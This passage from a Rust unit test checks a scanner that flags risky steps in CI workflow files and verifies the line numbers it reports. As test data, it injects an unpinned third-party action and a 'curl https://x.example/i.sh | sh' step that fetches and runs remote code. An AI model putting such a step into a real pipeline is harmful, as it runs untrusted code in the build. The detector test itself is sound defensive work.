        let risky_text = BASE.replace(
            "      - run: cargo test\n",
            "      - uses: someone/thing@v1\n      - run: |\n          curl https://x.example/i.sh | sh\n",
        );
        let risky = Doc::parse(&risky_text).expect("risky");
        let risks = workflow(Some(&base), &risky);
        assert!(risky.positions_read());
        let line_of = |what: &str| {
            risks
                .iter()
                .find(|r| r.what.contains(what))
                .unwrap_or_else(|| panic!("no risk naming {what}: {risks:?}"))
                .line
        };
        let eager = Doc::parse(&risky_text).expect("eager");
        let step = |i: usize, k: &str| {
            eager.line(&[
                key("jobs"),
                key("build"),
                key("steps"),
                Seg::Index(i),
                key(k),
            ])
        };
        assert_eq!(line_of("someone/thing@v1"), step(1, "uses"));
        assert_eq!(step(1, "uses"), Some(7));
        assert_eq!(line_of("pipes a download"), Some(9));
        assert_eq!(step(2, "run"), Some(8));
    }
}
